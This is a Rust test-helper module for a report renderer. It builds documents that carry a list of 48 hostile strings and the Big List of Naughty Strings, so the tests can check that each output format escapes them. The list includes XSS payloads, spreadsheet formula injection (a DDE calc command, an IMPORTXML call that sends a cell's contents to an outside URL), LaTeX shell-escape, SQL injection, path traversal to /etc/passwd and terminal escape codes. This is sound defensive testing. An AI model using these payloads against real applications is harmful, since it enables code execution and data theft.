//! For tests of the formats: what a document says, and what nobody should be able to say.

use super::compose::compose;
use super::compose::tests::facts;
use super::document::{Block, Cell, Column, Document, KeyFigure, Table, Text};
use crate::i18n::Lang;

/// Texts that programs have taken for something else than text: markup, formulas, commands, numbers, and letters that
/// hide, turn or pile up.
const HOSTILE: [&str; 48] = [
    // Markup.
    "<script>alert(1)</script><w:t>x</w:t></w:p> <!-- ]]> <![CDATA[ &amp; &#0; &lt; \"'",
    "\"><img src=http://a.example/x onerror=alert(1)> '</style>' javascript:alert(1) url(http://a.example/y)",
    "<svg/onload=alert(1)> <a href=//a.example>x</a> <iframe srcdoc='<b>'> &copy; &#x202E; &NewLine; &amp;amp;",
    "[a](http://a.example) ![b](c) <http://a.example> https://a.example www.a.example a@a.example [^1] @a #1 :a:",
    "# x",
    "1. one",
    "12) twelve",
    "- [ ] x",
    "> x",
    "***",
    "---",
    "===",
    "~~~ ```` `a` ~~b~~ __c__ **d** ^e^ $$f$$ {.g} [h]: i",
    "    four spaces",
    "| a | b | \\| c",
    "#let x = 1; #read(\"/etc/passwd\") $ sum $ @ref <label> = Heading ~ -- // comment /* c */ #[b] \\u{41}",
    "\\input{x} \\write18{id} \\\\ \\n \\u0041 \\",
    "{=1+1} $a$ #REF! #set page() *b* _c_ `d` | \\ (e) << /Type >> endobj",
    "{body} {title} {author} {embedded} {pictures} {{7*7}} ${7*7} <%= 7*7 %> %s %n %d {0} %00 %0A",
    "&P &N &\"Arial\" && [Sheet1]'!A1:Z9/\\*?",
    "_x0041_ _x000D_ _xFFFF_",
    // Formulas, and what spreadsheets make numbers, dates and truths of.
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=HYPERLINK(\"http://example.invalid\",\"x\")",
    "=IMPORTXML(CONCAT(\"http://a.example?\",A1),\"//a\")",
    " \t=1+1",
    "'=1+1",
    "＝1+1 ＜script＞ ＋1",
    "true",
    "0012",
    "1E5",
    "3-4",
    "#N/A",
    "undefined null NaN nil -0 1e1000 0x0 ∞",
    // Commands and paths.
    "'; DROP TABLE cases; -- ' OR '1'='1",
    "../../etc/passwd C:\\con\\con \\\\server\\share file:///x",
    "\u{1B}]0;title\u{7}\u{1B}[2J\u{9B}31m A\u{0}B",
    // Letters.
    "\u{202E}reversed\u{202C} \u{0}\u{1}\u{8}\u{1B}[31m \u{FEFF}\u{200B}\u{E000}\u{10FFFD}\u{FFFE}\u{FFFF}",
    "\u{2067}ﺍﻟﻌﺮﺑﻴﺔ\u{2069} \u{61C}x \u{2060}\u{180E}\u{AD}y\u{AD}z\u{200C}\u{200D}",
    "👩‍👩‍👧‍👦 🇰🇭 🏳️‍🌈 👨🏿‍⚕️ 1️⃣ مرحبا بالعالم שלום 你好 ไทย हिन्दी z\u{300}\u{301}\u{302} ﷽ 𒐫",
    "\u{17D2}\u{17D2}\u{17C1} \u{17B4}\u{17B5} \u{300} ក\u{200C}\u{200D}ខ a\u{17B6}\u{17D2}b",
    "Z\u{351}\u{36B}\u{343}\u{36A}\u{302}\u{319}\u{324}\u{31E}\u{349}A\u{334}\u{335}\u{31C}\u{330}\u{354}L\u{320}\u{368}",
    "ស្ត្រីម្នាក់ <b>រង់ចាំ</b> & 5 ម៉ោង «=1+1» ១២៣ 95% (n = 30)",
    "ʇxǝʇ ½ ﬁ ß İıſK \u{2028}x\u{2029}y\u{85}z",
    "\t\r\n tab\tand\r\nlines\u{2028}here ",
    "=",
];

/// Each of them, in one language or the other.
pub fn hostile<'a>() -> impl Iterator<Item = (&'a str, Lang)> {
    let texts: [&'a str; 48] = HOSTILE;
    texts.into_iter().zip(Lang::ALL.into_iter().cycle())
}

/// The Big List of Naughty Strings, 1.0.0 (npm `big-list-of-naughty-strings`, Max Woolf and others, MIT): what other programs
/// were found to stumble over.
pub fn naughty() -> Vec<String> {
    let list = include_str!("../../tests/reference/naughty-strings/blns.json");
    serde_json::from_str(list).unwrap()
}

/// A document that says each of many texts in a paragraph and in a table; and each as it is to be read back.
pub fn saying_all(texts: &[String], lang: Lang) -> (Document, Vec<String>) {
    let mut document =
        Document::new(lang, Text::told("t", lang), Text::default(), compose(&facts(), lang).furniture);
    let told: Vec<Text> = texts.iter().map(|text| Text::told(text, lang)).collect();
    for text in texts {
        document.paragraph(text);
    }
    document.blocks.push(Block::Table(Table {
        caption: Text::told("t", lang),
        columns: vec![Column { name: Text::told("n", lang), is_figure: false }],
        rows: told.iter().map(|text| vec![Cell::Text(text.clone())]).collect(),
        notes: Vec::new(),
    }));
    let read: Vec<String> = told.iter().map(Text::to_string).filter(|text| !text.trim().is_empty()).collect();
    (document, read)
}

/// All of them in one text.
pub fn all_hostile() -> String {
    HOSTILE.join(" ")
}

/// A document that says one text everywhere; it has no charts, which take long to paint without optimisation.
pub fn saying(text: &str, lang: Lang) -> Document {
    let told = Text::told(text, lang);
    let mut document = Document { title: told.clone(), subtitle: told.clone(), ..compose(&facts(), lang) };
    document.blocks.retain(|block| !matches!(block, Block::Figure(_)));
    document.furniture.head = told.clone();
    document.furniture.foot = told.clone();
    document.furniture.author = text.to_owned();
    document.heading(text);
    document.paragraph(text);
    document.list([text]);
    document.blocks.push(Block::Quote { source: told.clone(), text: told.clone() });
    document.blocks.push(Block::KeyFigures(vec![KeyFigure { value: Cell::Count(1), label: told.clone() }]));
    document.blocks.push(Block::Table(Table {
        caption: told.clone(),
        columns: vec![
            Column { name: told.clone(), is_figure: false },
            Column { name: Text::told("n", lang), is_figure: true },
        ],
        rows: vec![vec![Cell::Text(told.clone()), Cell::Count(7)]],
        notes: vec![told],
    }));
    document
}

/// All texts of a document, in order; of charts what stands around them.
pub fn texts(document: &Document) -> Vec<String> {
    let lang = document.lang;
    let mut texts = vec![document.title.to_string(), document.subtitle.to_string()];
    let of_table = |table: &Table| -> Vec<String> {
        let names = table.columns.iter().map(|column| column.name.to_string());
        let cells = table.rows.iter().flatten().map(|cell| cell.written(lang));
        let notes = table.notes.iter().map(Text::to_string);
        std::iter::once(table.caption.to_string()).chain(names).chain(cells).chain(notes).collect()
    };
    for block in &document.blocks {
        match block {
            Block::Particulars(lines) | Block::List(lines) => texts.extend(lines.iter().map(Text::to_string)),
            Block::KeyFigures(figures) => {
                texts.extend(figures.iter().flat_map(|key| [key.value.written(lang), key.label.to_string()]));
            }
            Block::Heading { text, .. } | Block::Paragraph(text) => texts.push(text.to_string()),
            Block::Quote { source, text } => texts.extend([source.to_string(), text.to_string()]),
            Block::Table(table) => texts.extend(of_table(table)),
            Block::Figure(figure) => {
                texts.push(figure.caption.to_string());
                texts.extend(figure.notes.iter().map(Text::to_string));
            }
        }
    }
    texts
}

/// A brief with more places, so that all of its parts stand in it.
pub fn brief(lang: Lang) -> Document {
    let mut facts = facts();
    for name in ["Kampot", "Pursat"] {
        let mut row = facts.places[0].clone();
        name.clone_into(&mut row.name);
        row.cases -= 4;
        row.severe = Some((0.37, 0.201, 0.577));
        facts.places.push(row);
    }
    compose(&facts, lang)
}
